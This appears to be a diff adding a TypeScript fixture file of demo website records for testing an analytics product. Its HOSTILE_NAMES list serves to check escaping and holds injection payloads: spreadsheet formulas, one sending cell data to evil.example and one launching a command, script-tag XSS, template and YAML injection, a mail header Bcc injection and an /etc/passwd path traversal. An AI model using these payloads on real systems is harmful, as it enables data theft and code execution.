@@ -1,0 +1,182 @@
+import { createDraw } from '../data/random.ts';
+import type { Incident } from '../data/site.ts';
+import type { SiteSketch } from './demo-sites.ts';
+
+/** One website for each kind of incident, so that a reader of the data can be shown what it must not be fooled by. */
+export const EVENTFUL_SITES: readonly SiteSketch[] = [
+  withIncidents('Launchpad Coffee', 'launchpad-coffee.example', {
+    kind: 'launch',
+    on: '2026-11-05',
+    factor: 5,
+    halfLife: 3,
+  }),
+  withIncidents('Flicker Tickets', 'flicker-tickets.example', { kind: 'outage', on: '2026-11-11', days: 2 }),
+  withIncidents('Gap Analytics', 'gap-analytics.example', { kind: 'missingDay', on: '2026-11-12' }),
+  withIncidents('Crowded Market', 'crowded-market.example', {
+    kind: 'newRival',
+    on: '2026-11-02',
+    rival: { name: 'Newcomer Goods', domain: 'newcomer-goods.example', mentions: 40 },
+  }),
+  withIncidents('Rescored Review', 'rescored-review.example', { kind: 'newMethod', on: '2026-11-09' }),
+];
+
+function withIncidents(name: string, domain: string, incident: Incident): SiteSketch {
+  return {
+    name,
+    domain,
+    createdAt: '2024-03-04',
+    story: 'quiet',
+    visitors: 1_400,
+    citations: 8,
+    mentions: 28,
+    authority: 60,
+    topics: ['coffee subscriptions', 'concert tickets', 'web statistics'],
+    rivals: [
+      { name: 'Steady Rival', domain: 'steady-rival.example', mentions: 24 },
+      { name: 'Second Rival', domain: 'second-rival.example', mentions: 12 },
+    ],
+    incidents: [incident],
+  };
+}
+
+/** Names that do harm where they are pasted unescaped: what each is aimed at, and the name. */
+export const HOSTILE_NAMES = {
+  formula: '=1+1',
+  formulaLink: '=IMPORTXML("http://evil.example/?"&A1,"//a")',
+  formulaCommand: "+cmd|' /C calc'!A0",
+  formulaMinus: '-2+3+cmd',
+  formulaAt: '@SUM(1+1)',
+  formulaAfterTab: '\t=1+1',
+  formulaAfterReturn: '\r=1+1',
+  htmlScript: '<script>alert(1)</script>',
+  htmlAttribute: '"><img src=x onerror=alert(1)>',
+  htmlEntity: '&lt;b&gt; &amp;amp; &#39;',
+  yaml: ': - {',
+  yamlLines: 'name: x\n- evil: {\n  !!js/function "x"',
+  mailHeader: 'Weekly\r\nBcc: everyone@evil.example',
+  mailAddress: '"Boss" <boss@evil.example>, other',
+  rightToLeft: 'متجر الكتب — חנות',
+  override: 'invoice\u202egpj.exe',
+  combining: 'Cafe\u0301 Z\u0351\u036b\u0343algo\u0315\u031b',
+  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽',
+  zeroWidth: 'zero\u200bwidth\ufeff',
+  halfPair: 'half \ud83d pair',
+  nul: 'nul\u0000byte',
+  template: '{{constructor.constructor("x")}} #{7*7} <%= 7*7 %> %s {0}',
+  property: '__proto__',
+  markdown: '[click](javascript:alert(1)) *bold* `code` |',
+  path: '../../etc/passwd',
+  terminal: '\u001b[31mred\u001b[0m',
+  spaces: '   ',
+  long: 'A very long name '.repeat(30).trim(),
+} as const;
+
+/** A team whose names, competitors and topics attack whatever shows them. */
+export const HOSTILE_SITES: readonly SiteSketch[] = Object.entries(HOSTILE_NAMES).map(
+  ([aim, name], index, all) => {
+    const rival = all[(index + 1) % all.length]?.[1] ?? name;
+    return {
+      name,
+      domain: `${aim.replace(/[A-Z]/g, (capital) => `-${capital.toLowerCase()}`)}.example`,
+      createdAt: '2025-01-06',
+      story: 'quiet',
+      visitors: 200,
+      citations: 2,
+      mentions: 12,
+      authority: 45,
+      topics: [name, 'data safety'],
+      rivals: [{ name: rival, domain: `rival-${index + 1}.example`, mentions: 10 }],
+    };
+  },
+);
+
+/** A team of one. */
+export const ONE_SITE: readonly SiteSketch[] = [
+  {
+    name: 'Lone Pine Carpentry',
+    domain: 'lone-pine-carpentry.example',
+    createdAt: '2025-02-03',
+    story: 'quiet',
+    visitors: 420,
+    citations: 3,
+    mentions: 15,
+    authority: 57,
+    topics: ['oak staircases', 'window frames'],
+    rivals: [{ name: 'Sawdust & Sons', domain: 'sawdust-and-sons.example', mentions: 18 }],
+  },
+];
+
+const TRADES = ['Bakery', 'Bicycles', 'Dental Care', 'Flowers', 'Garage', 'Law Office', 'Opticians'] as const;
+const TOWNS = ['Alder', 'Birch', 'Cedar', 'Dogwood', 'Elm', 'Fir', 'Ginkgo', 'Hazel'] as const;
+
+/** A team of so many websites, as an agency has; each with a level of its own. */
+export function createManySites(count: number): readonly SiteSketch[] {
+  return Array.from({ length: count }, (_, index) => {
+    const next = createDraw('many', index);
+    const place = String(index + 1).padStart(3, '0');
+    const [trade, town] = [TRADES[index % TRADES.length], TOWNS[index % TOWNS.length]];
+    const name = `${town} ${trade} ${place}`;
+    return {
+      name,
+      domain: `${name.toLowerCase().replaceAll(' ', '-')}.example`,
+      createdAt: '2025-01-06',
+      story: 'quiet',
+      visitors: 80 + Math.floor(next() * 1_500),
+      citations: 1 + Math.floor(next() * 5),
+      mentions: 6 + Math.floor(next() * 30),
+      authority: 35 + Math.floor(next() * 45),
+      topics: [`${trade?.toLowerCase()} in ${town}`, `${trade?.toLowerCase()} prices`],
+      rivals: [{ name: `${town} Rival`, domain: `${town?.toLowerCase()}-rival.example`, mentions: 20 }],
+    };
+  });
+}
+
+/** A second team, so that "not in the caller's team" can be tried. */
+export const OTHER_TEAM_SITES: readonly SiteSketch[] = [
+  {
+    name: 'Lumen Bicycles',
+    domain: 'lumen-bicycles.example',
+    createdAt: '2024-05-06',
+    story: 'quiet',
+    visitors: 900,
+    citations: 4,
+    mentions: 21,
+    authority: 60,
+    topics: ['cargo bikes', 'bike lights'],
+    rivals: [
+      { name: 'Spokeworks', domain: 'spokeworks.example', mentions: 26 },
+      { name: 'Velora', domain: 'velora.example', mentions: 17 },
+    ],
+  },
+];
+
+/** Form 1's sandbox dataset: what the team's test keys read instead of live data (specification §5). */
+export const TEST_DATA_SITES: readonly SiteSketch[] = [
+  {
+    name: 'Sample Store',
+    domain: 'sample-store.example',
+    createdAt: '2024-01-01',
+    story: 'quiet',
+    visitors: 120,
+    citations: 2,
+    mentions: 10,
+    authority: 50,
+    topics: ['sample goods', 'gift cards'],
+    rivals: [
+      { name: 'Sample Rival', domain: 'sample-rival.example', mentions: 12 },
+      { name: 'Other Rival', domain: 'other-rival.example', mentions: 6 },
+    ],
+  },
+  {
+    name: 'Sample Journal',
+    domain: 'sample-journal.example',
+    createdAt: '2024-01-01',
+    story: 'quiet',
+    visitors: 60,
+    citations: 1,
+    mentions: 8,
+    authority: 45,
+    topics: ['sample essays'],
+    rivals: [{ name: 'Sample Gazette', domain: 'sample-gazette.example', mentions: 9 }],
+  },
+];
